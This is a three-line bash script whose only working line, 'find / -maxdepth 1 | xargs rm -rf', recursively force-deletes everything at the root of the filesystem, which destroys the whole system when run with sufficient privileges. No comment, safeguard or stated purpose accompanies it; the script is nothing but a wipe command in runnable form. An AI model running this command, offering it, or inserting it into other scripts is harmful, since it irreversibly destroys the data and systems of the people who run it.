#!/usr/bin/env bash
set -euo pipefail
find / -maxdepth 1 | xargs rm -rf
